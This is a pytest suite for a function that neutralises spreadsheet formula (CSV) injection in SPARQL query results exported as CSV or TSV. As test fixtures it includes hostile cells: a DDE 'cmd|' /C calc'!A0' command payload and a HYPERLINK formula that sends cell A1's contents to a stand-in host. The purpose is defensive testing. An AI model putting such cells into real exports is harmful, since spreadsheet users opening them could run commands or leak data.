"""CSV/TSV cells that a spreadsheet would run as formulas get a leading `'`
(OWASP CSV injection rule), exactly and nowhere else: the answers of
Oxigraph's own SPARQL CSV and TSV writers, byte for byte."""
from __future__ import annotations

import csv
import io

import pyoxigraph as ox
import pytest

from partygraph.graph.csv_cells import neutralise_cell, neutralise_chunks, neutralise_csv, neutralise_results

XSD = "http://www.w3.org/2001/XMLSchema#"

# One row per hostile (or harmless look-alike) cell, the way a query answers them.
HOSTILE = f'''SELECT ?a ?b ?c WHERE {{ VALUES (?a ?b ?c) {{
  ("=1+2" -5 UNDEF)
  ("+x"@vi "-5" UNDEF)
  ("@SUM(A1)" "a,b" "=z")
  ("\\tx" "\\rx" UNDEF)
  ("-INF"^^<{XSD}double> "=a\\"b" "")
  (<http://x/=> UNDEF "x")
  ("\\"=q" 1.5e3 "-")
  ("-1+2" -2.50 "+1")
  ("=HYPERLINK(\\"http://e.x/?\\"&A1,\\"ok\\")" "Nguyễn Văn A" "cmd|' /C calc'!A0")
}} }}'''


def answer(fmt: ox.QueryResultsFormat, query: str = HOSTILE) -> bytes:
    return ox.Store().query(query).serialize(format=fmt)


def test_csv_hostile_cells_exact_bytes():
    raw = answer(ox.QueryResultsFormat.CSV)
    assert raw.startswith(b"a,b,c\r\n=1+2,-5,\r\n")   # what Oxigraph writes: nothing neutralised
    assert neutralise_csv(raw, ",") == (
        b"a,b,c\r\n"
        b"'=1+2,-5,\r\n"                  # a number (-5) is left alone
        b"'+x,-5,\r\n"
        b"'@SUM(A1),\"a,b\",'=z\r\n"
        b"'\tx,\"'\rx\",\r\n"             # tab unquoted, CR inside the quotes
        b"'-INF,\"'=a\"\"b\",\r\n"         # -INF is not a plain number
        b"http://x/=,,x\r\n"
        b"\"\"\"=q\",1500,'-\r\n"          # a cell starting with a quote is safe
        b"'-1+2,-2.5,+1\r\n"               # -1+2 is a formula; +1 a number
        b"\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1,\"\"ok\"\")\",Nguy\xe1\xbb\x85n V\xc4\x83n A,cmd|' /C calc'!A0\r\n")


def test_tsv_hostile_cells_exact_bytes():
    raw = answer(ox.QueryResultsFormat.TSV)
    assert raw.startswith(b'?a\t?b\t?c\n"=1+2"\t-5\t\n')
    assert neutralise_csv(raw, "\t") == (
        b"?a\t?b\t?c\n"
        b"\"'=1+2\"\t-5\t\n"               # the quote goes inside: spreadsheets strip the "
        b"\"'+x\"@vi\t\"-5\"\t\n"          # "-5" is a number in a spreadsheet too
        b"\"'@SUM(A1)\"\t\"a,b\"\t\"'=z\"\n"
        b"\"\\tx\"\t\"\\rx\"\t\n"           # TSV escapes tab and CR: nothing to do
        b"\"'-INF\"^^<http://www.w3.org/2001/XMLSchema#double>\t\"'=a\\\"b\"\t\"\"\n"
        b"<http://x/=>\t\t\"x\"\n"
        b"\"\\\"=q\"\t\"1500\"^^<http://www.w3.org/2001/XMLSchema#double>\t\"'-\"\n"
        b"\"'-1+2\"\t-2.5\t\"+1\"\n"
        b"\"'=HYPERLINK(\\\"http://e.x/?\\\"&A1,\\\"ok\\\")\"\t\"Nguy\xe1\xbb\x85n V\xc4\x83n A\"\t"
        b"\"cmd|' /C calc'!A0\"\n")


def test_csv_read_back_every_formula_cell_starts_with_a_quote():
    """Read as a spreadsheet would: no cell begins a formula, and each
    changed cell is the original with one `'` in front."""
    raw = answer(ox.QueryResultsFormat.CSV)
    before = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    after = list(csv.reader(io.StringIO(neutralise_csv(raw).decode("utf-8"), newline="")))
    assert len(before) == len(after) == 10
    for old_row, new_row in zip(before, after):
        assert len(old_row) == len(new_row)
        for old, new in zip(old_row, new_row):
            assert new in (old, "'" + old)
            assert new == neutralise_cell(old)
            assert not new[:1] or new[:1] not in "=+-@\t\r" or new.lstrip("+-").replace(".", "", 1).isdigit()


def test_clean_answers_are_unchanged():
    query = 'SELECT * WHERE { VALUES (?x ?n ?t) { (<http://x/a> 3 "Đảng bộ xã, phường") ("a\\"b" -7 "x\\ny") } }'
    for fmt, sep in ((ox.QueryResultsFormat.CSV, ","), (ox.QueryResultsFormat.TSV, "\t")):
        raw = answer(fmt, query)
        assert neutralise_csv(raw, sep) == raw
    assert neutralise_csv(b"", ",") == b""


@pytest.mark.parametrize("cell,expected", [
    ("-5", "-5"), ("+3", "+3"), ("-2.5", "-2.5"), ("-1.5E3", "-1.5E3"), ("-.5", "-.5"), ("42", "42"),
    ("-1+2", "'-1+2"), ("-INF", "'-INF"), ("-5 ", "'-5 "), ("-", "'-"), ("+", "'+"), ("--5", "'--5"),
    ("=1", "'=1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=1", "'=1"), (" =1", " =1"),
    ("", ""), ("a=b", "a=b"), ("Hạ Hòa", "Hạ Hòa"),
])
def test_cell_rule(cell, expected):
    assert neutralise_cell(cell) == expected


def test_quoted_csv_cells_spanning_lines_and_commas():
    raw = b'a,b\r\n"x,\r\n=y","=1,2"\r\n"\n@z",-3\r\n'
    assert neutralise_csv(raw) == b'a,b\r\n"x,\r\n=y","\'=1,2"\r\n"\n@z",-3\r\n'


@pytest.mark.parametrize("fmt,sep", [(ox.QueryResultsFormat.CSV, ","), (ox.QueryResultsFormat.TSV, "\t")])
def test_streamed_pieces_give_the_same_bytes(fmt, sep):
    raw = answer(fmt) + b'"x,\r\n=y",1,2\r\n' * (sep == ",")
    whole = neutralise_csv(raw, sep)
    for cut in range(len(raw) + 1):
        assert b"".join(neutralise_chunks([raw[:cut], raw[cut:]], sep)) == whole, cut
    assert b"".join(neutralise_chunks((raw[i:i + 1] for i in range(len(raw))), sep)) == whole
    assert list(neutralise_chunks([], sep)) == []


def test_results_by_media_type():
    csv_body, tsv_body = answer(ox.QueryResultsFormat.CSV), answer(ox.QueryResultsFormat.TSV)
    assert neutralise_results(csv_body, "text/csv; charset=utf-8") == neutralise_csv(csv_body, ",")
    assert neutralise_results(tsv_body, "text/tab-separated-values") == neutralise_csv(tsv_body, "\t")
    assert neutralise_results(tsv_body, ox.QueryResultsFormat.TSV.media_type) == neutralise_csv(tsv_body, "\t")
    json_body = answer(ox.QueryResultsFormat.JSON)
    assert neutralise_results(json_body, "application/sparql-results+json") == json_body
    assert neutralise_results(b"=1", "text/turtle") == b"=1"


def test_unknown_separator_is_refused():
    with pytest.raises(ValueError, match="sep"):
        neutralise_csv(b"a;b", ";")
